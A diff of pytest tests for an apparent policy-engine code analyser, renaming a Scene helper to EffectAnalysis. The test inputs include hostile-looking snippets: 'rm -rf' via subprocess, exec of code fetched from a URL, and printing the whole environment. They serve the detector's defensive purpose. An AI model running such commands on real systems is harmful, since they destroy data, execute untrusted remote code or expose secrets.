@@ -4,16 +4,16 @@ from __future__ import annotations
 
 import pytest
 
-from policy_engine.filesystem.world import Virtual
+from policy_engine.filesystem.file_system import Virtual
 from policy_engine.inline.code import analyse
-from policy_engine.inline.scene import Scene
+from policy_engine.inline.effect_analysis import EffectAnalysis
 
 
-def _scene(code: str, name: str = "python") -> Scene:
-    world = Virtual()
-    scene = Scene(world.resolve("/workspace", None), world, name)
-    analyse(code, scene)
-    return scene
+def _analysis(code: str, name: str = "python") -> EffectAnalysis:
+    filesystem = Virtual()
+    analysis = EffectAnalysis(filesystem.resolve("/workspace", None), filesystem, name)
+    analyse(code, analysis)
+    return analysis
 
 
 @pytest.mark.parametrize(
@@ -28,28 +28,30 @@ def _scene(code: str, name: str = "python") -> Scene:
     ],
 )
 def test_literal_paths_are_read(code: str, expected: list[tuple[str, str, bool]]) -> None:
-    assert [(path.access, path.text, path.recursive) for path in _scene(code).paths] == expected
+    assert [(path.access, path.text, path.recursive) for path in _analysis(code).paths] == expected
 
 
 def test_lines_for_a_shell_are_handed_on() -> None:
-    assert _scene("import os; os.system('sudo ls')").lines == ["sudo ls"]
-    assert _scene("import subprocess; subprocess.run(['rm', '-rf', 'x'])").lines == ["'rm' '-rf' 'x'"]
-    assert _scene("puts `ls`", "ruby").lines == ["ls"]
+    assert _analysis("import os; os.system('sudo ls')").lines == ["sudo ls"]
+    assert _analysis("import subprocess; subprocess.run(['rm', '-rf', 'x'])").lines == ["'rm' '-rf' 'x'"]
+    assert _analysis("puts `ls`", "ruby").lines == ["ls"]
 
 
 def test_what_is_put_together_at_run_time_is_in_doubt() -> None:
-    assert "*" in _scene("import os; os.system(x)").doubts
-    assert [path.known for path in _scene("open(input(), 'w')").paths] == [False]
+    assert "*" in _analysis("import os; os.system(x)").doubts
+    assert [path.known for path in _analysis("open(input(), 'w')").paths] == [False]
 
 
 def test_running_what_was_fetched_or_decoded_is_told() -> None:
-    assert "executes-remote" in _scene("import urllib.request as u; exec(u.urlopen('https://x.example').read())").words
-    assert "executes-remote" not in _scene("import base64; print(base64.b64decode('aGk='))").words
+    assert (
+        "executes-remote" in _analysis("import urllib.request as u; exec(u.urlopen('https://x.example').read())").words
+    )
+    assert "executes-remote" not in _analysis("import base64; print(base64.b64decode('aGk='))").words
 
 
 def test_an_environment_is_told() -> None:
-    assert "discloses" in _scene("import os; print(os.environ)").words
-    assert "discloses" not in _scene("import os; print(os.environ.get('HOME'))").words
+    assert "discloses" in _analysis("import os; print(os.environ)").words
+    assert "discloses" not in _analysis("import os; print(os.environ.get('HOME'))").words
 
 
 @pytest.mark.parametrize(
@@ -79,6 +81,6 @@ def test_an_environment_is_told() -> None:
 def test_an_unknown_part_stays_an_unknown_part(
     language: str, code: str, lines: list[str], paths: list[tuple[str, str]]
 ) -> None:
-    scene = _scene(code, language)
-    assert scene.lines == lines
-    assert [(path.access, path.text) for path in scene.paths] == paths
+    analysis = _analysis(code, language)
+    assert analysis.lines == lines
+    assert [(path.access, path.text) for path in analysis.paths] == paths
